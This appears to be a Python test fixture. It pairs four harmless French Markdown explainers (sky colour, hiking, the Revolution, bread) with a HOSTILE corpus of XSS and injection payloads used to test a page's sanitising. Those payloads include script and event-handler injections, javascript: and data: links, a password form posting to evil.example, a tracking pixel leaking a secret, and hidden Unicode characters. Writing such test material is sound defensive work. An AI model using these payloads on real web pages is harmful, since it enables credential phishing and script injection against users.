"""What the scripted provider answers: good French Markdown, and a corpus that a page must survive."""

TEXTS = (
    """\
## Pourquoi le ciel est-il bleu ?

La lumière du Soleil paraît blanche, mais elle mêle **toutes les couleurs** de l'arc-en-ciel. En traversant
l'atmosphère, elle rencontre des molécules d'air bien plus petites que sa longueur d'onde.

### Ce qui se passe

- le bleu, d'onde courte, est dévié dans toutes les directions ;
- le rouge, d'onde longue, passe presque tout droit ;
- notre œil, peu sensible au violet, retient surtout le bleu.

| Couleur | Longueur d'onde | Diffusion |
|---|--:|---|
| Violet | 400 nm | très forte |
| Bleu | 450 nm | forte |
| Rouge | 700 nm | faible |

La règle est simple : l'intensité diffusée varie comme l'inverse de la *puissance quatrième* de la longueur d'onde.

```python
def diffusion(longueur):
    return (450 / longueur) ** 4

print(round(diffusion(700), 2))
```

Le soir, les rayons traversent une couche d'air plus épaisse : le bleu s'est perdu en chemin, et l'horizon se teinte
d'orange puis de rouge. Sur Mars, c'est l'inverse : le couchant y est bleuté !""",
    """\
# Préparer une randonnée en famille

Une sortie réussie se prépare la veille : on choisit un parcours **court et varié**, on consulte la météo et l'on
annonce à chacun ce qui l'attend.

## Dans le sac

1. de l'eau, au moins un litre par personne ;
2. un vêtement de pluie, même par beau temps ;
3. une trousse de premiers secours ;
4. de quoi grignoter à chaque pause.

## Quelle distance ?

| Âge | Distance | Pauses |
|---|--:|--:|
| 4 à 6 ans | 4 km | 4 |
| 7 à 10 ans | 8 km | 3 |
| Adultes | 15 km | 2 |

> Le rythme du groupe est celui du plus lent.

Pour estimer la durée, ajoutez une heure tous les 300 mètres de montée :

```
durée = distance / 4 + dénivelé / 300
```

Ainsi, huit kilomètres et 300 mètres de dénivelé demandent environ *trois heures*, sans compter le pique-nique.

Au retour, laissez les enfants raconter ce qu'ils ont vu : une trace, un oiseau, une vieille borne. C'est souvent là que
naît l'envie de repartir, dès que les jambes seront un peu mieux reposées, bien entendu.""",
    """\
## La Révolution française en bref

Entre 1789 et 1799, la France passe d'une monarchie absolue à une **république**. Les causes sont à la fois politiques,
sociales et financières.

### Les grandes causes

- la dette de l'État, aggravée par les guerres ;
- de mauvaises récoltes, qui font monter le prix du pain ;
- les idées des Lumières, qui circulent dans toute l'Europe.

### Quelques dates

| Date | Événement |
|---|---|
| 14 juillet 1789 | prise de la Bastille |
| 26 août 1789 | Déclaration des droits |
| 21 septembre 1792 | abolition de la royauté |

Le texte le plus célèbre commence ainsi :

```text
Les hommes naissent et demeurent libres et égaux en droits.
```

Les historiens débattent encore de la *Terreur* : réponse aux menaces de la guerre pour les uns, dérive contenue dans
les principes mêmes pour d'autres.

Retenons enfin que cette période a laissé des traces durables : le système métrique, les départements, l'état civil et
l'idée que la souveraineté appartient à la nation.""",
    """\
# Faire lever une pâte à pain

Quatre ingrédients suffisent : de la farine, de l'eau, du sel et de la levure. Le reste est affaire de **temps** et de
**température**.

## Les étapes

1. mélanger la farine et l'eau, puis laisser reposer vingt minutes ;
2. ajouter le sel et la levure, et pétrir dix minutes ;
3. laisser pousser sous un linge humide ;
4. façonner, attendre encore, puis enfourner.

## Temps de pousse

| Température | Première pousse | Seconde |
|---|--:|--:|
| 18 °C | 3 h | 1 h 30 |
| 22 °C | 2 h | 1 h |
| 26 °C | 1 h 15 | 40 min |

Les boulangers comptent en *pourcentage de la farine* :

```yaml
farine: 100 %
eau: 65 %
sel: 2 %
levure: 1 %
```

Pour savoir si la pâte est prête, enfoncez-y un doigt : la marque doit remonter lentement. Si elle disparaît aussitôt,
patientez ; si elle reste, il est temps d'enfourner.

Un bol d'eau chaude placé dans le four donne de la vapeur, et une croûte fine qui chante en refroidissant.
Attendez au moins une heure avant d'y couper une part.""",
)

HOSTILE = (
    """\
# Texte hostile

<script>window.hostile = "script"</script><style>body { display: none }</style>
<form action="https://evil.example/vol"><input name="password" autofocus><button>Voter</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object>
<img src="https://evil.example/pixel.gif" onerror="window.hostile = 'onerror'">
<svg onload="window.hostile = 'svg'"><animate onbegin="window.hostile = 'animate'"></animate></svg>
<div hx-get="https://evil.example/" hx-trigger="load" data-hx-post="/arene/" ws-send hx-on:click="alert(1)">htmx</div>
<a id="side-a" name="csrfmiddlewaretoken" class="fr-modal" style="position:fixed;inset:0" href="https://evil.example">x</a>
</div></article></main><template><p>hors du cadre</template>

![pixel](https://evil.example/pixel.png?q=secret) ![intégrée](data:image/svg+xml;base64,PHN2Zy8+)

[lien](javascript:window.hostile='lien') [donnée](data:text/html,<script>alert(1)</script>) [vb](vbscript:x)
[blancs](java\tscript:alert(1)) [entité](&#106;avascript:alert(1)) <javascript:alert(1)> [relatif](//evil.example/)
[titre](https://evil.example "\\" onmouseover=\\"window.hostile='titre'")

Texte inversé : \u202eelbisivni\u202c, isolé \u2066caché\u2069, sans largeur : a\u200bb, NUL : \u0000,
annexe \U000e0041.

| <script>alert(1)</script> | [x](javascript:alert(1)) |
|---|---|
| `<img src=x onerror=alert(1)>` | &lt;script&gt;alert(1)&lt;/script&gt; |

$$\\href{javascript:alert(1)}{x}$$ et $\\text{<script>alert(1)</script>}$

"""
    + "".join(f"{'  ' * depth}- niveau {depth + 1}\n" for depth in range(100))
    + "\n"
    + "> " * 100
    + "cité\n\n"
    + "**" * 200
    + "[" * 200
    + '\n\n```html" onmouseover="window.hostile = 1\n<script>window.hostile = "fence"</script>\n'
    + "une clôture jamais fermée"
)
"""Markdown that a page must survive. What runs would set `window.hostile`; what loads would call evil.example."""
